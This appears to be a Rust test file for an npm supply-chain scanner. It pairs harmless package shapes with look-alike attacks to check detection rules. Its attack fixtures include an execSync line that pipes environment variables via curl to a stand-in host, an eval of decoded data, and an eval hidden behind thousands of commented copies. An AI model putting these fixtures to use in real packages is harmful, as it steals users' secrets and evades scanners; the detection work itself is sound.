//! Honest npm shapes that once read as attacks, each beside the attack it resembles:
//! release scripts in `package.json`, a publishing tool's bundle, and syntax-highlighting
//! grammars. Found by scanning 400 npm packages below the 1,000 most downloaded.

mod common;

use common::{analyse_npm as analyse, npm_manifest as manifest, rule_ids as owned_rules};
use palisade_core::{Finding, Verdict};

fn rules(findings: &[Finding]) -> Vec<&str> {
    findings.iter().map(|f| f.rule.as_str()).collect()
}

#[test]
fn a_release_script_is_not_install_time_code_but_what_postinstall_reaches_is() {
    // react-i18next's shape: `prepare` makes the manifest install-time code, and a
    // `postversion` release step runs inline node that npm never runs on install.
    let honest = manifest(
        "    \"fix_dist\": \"node -e 'console.log(1)' > dist/es/package.json\",\n    \"postversion\": \"npm run fix_dist && git push\",\n    \"prepare\": \"husky\"",
    );
    let analysis = analyse(&[("package.json", &honest)]);
    let found = rules(&analysis.findings);
    assert!(found.contains(&"execution/inline-interpreter"), "{found:?}");
    assert!(
        !found.contains(&"correlate/install-time-process"),
        "{found:?}"
    );
    assert_eq!(analysis.score.verdict, Verdict::Clean);
    let note = analysis
        .findings
        .iter()
        .find(|f| f.rule == "execution/inline-interpreter")
        .unwrap();
    assert!(note.message.contains("only when asked"), "{}", note.message);

    // The same script chained from postinstall runs on every install.
    let attack = manifest(
        "    \"fix_dist\": \"node -e 'console.log(1)' > dist/es/package.json\",\n    \"postinstall\": \"npm run fix_dist\"",
    );
    let found = owned_rules(&analyse(&[("package.json", &attack)]));
    assert!(
        found.iter().any(|r| r == "correlate/install-time-process"),
        "{found:?}"
    );
}

/// A bundle of `filler` bytes between a credential file's name and a token variable,
/// with a network call.
fn bundle(filler: usize) -> String {
    format!(
        "const CONTEXT_FILES = ['.npmrc', '.yarnrc', 'package-lock.json'];\n{}\nconst octokit = new Octokit({{ auth: process.env.GITHUB_TOKEN }});\nfetch('https://api.example.com/releases', {{ method: 'POST' }});\n",
        "// release notes\n".repeat(filler / 16)
    )
}

#[test]
fn a_credential_name_and_a_token_variable_far_apart_in_a_bundle_are_unrelated() {
    let far = analyse(&[
        ("package.json", &manifest("")),
        ("dist/cli.js", &bundle(11_000)),
    ]);
    assert!(
        !rules(&far.findings).contains(&"correlate/secrets-and-network"),
        "{:?}",
        rules(&far.findings)
    );
    // A stealer keeps them together: `.npmrc` read and the token sent from one place.
    let near = analyse(&[
        ("package.json", &manifest("")),
        ("dist/cli.js", &bundle(200)),
    ]);
    assert!(
        rules(&near.findings).contains(&"correlate/secrets-and-network"),
        "{:?}",
        rules(&near.findings)
    );
}

#[test]
fn highlighting_grammars_name_eval_and_env_without_calling_them() {
    let grammar = r#"Prism.languages.bash = {
  function: { pattern: /(^|[\s;|&])(?:cat|du|eject|env|ethtool|eval(?:cmd)?|exactp)(?=$|[)\s;|&])/ },
  directive: /SetEnv|SetEnvIf|Env|Exclude/,
};
const code = String.fromCharCode(104, 105);
fetch('https://cdn.example.com/x.json');
"#;
    let analysis = analyse(&[("package.json", &manifest("")), ("dist/editor.js", grammar)]);
    let found = rules(&analysis.findings);
    for id in [
        "exfil/env-harvest",
        "capability/dynamic-exec-javascript",
        "correlate/decode-then-execute",
    ] {
        assert!(!found.contains(&id), "unexpected {id} in {found:?}");
    }
    // The same words as code are what the rules exist for.
    let attack = "const s = String.fromCharCode(104, 105);\neval(s);\nrequire('child_process').execSync('cd /tmp; env | curl -d @- https://x.example');\n";
    let found = owned_rules(&analyse(&[
        ("package.json", &manifest("")),
        ("index.js", attack),
    ]));
    for id in ["exfil/env-harvest", "correlate/decode-then-execute"] {
        assert!(found.iter().any(|r| r == id), "no {id} in {found:?}");
    }
}

#[test]
fn comments_cannot_screen_the_code_behind_them() {
    // Documentation quoting a call is documentation...
    let documented = "/**\n * Like `eval(code)`, but sandboxed.\n */\nconst s = Buffer.from(p, 'base64').toString();\n";
    let found = owned_rules(&analyse(&[
        ("package.json", &manifest("")),
        ("index.js", documented),
    ]));
    assert!(
        !found.iter().any(|r| r == "correlate/decode-then-execute"),
        "{found:?}"
    );
    // ...but a wall of commented copies, more than the hits a rule keeps, does not hide
    // the call after it.
    let screen = format!(
        "{}const s = Buffer.from(p, 'base64').toString();\neval(s);\n",
        "// eval(s)\n".repeat(2000)
    );
    let found = owned_rules(&analyse(&[
        ("package.json", &manifest("")),
        ("index.js", &screen),
    ]));
    assert!(
        found.iter().any(|r| r == "correlate/decode-then-execute"),
        "{found:?}"
    );
}
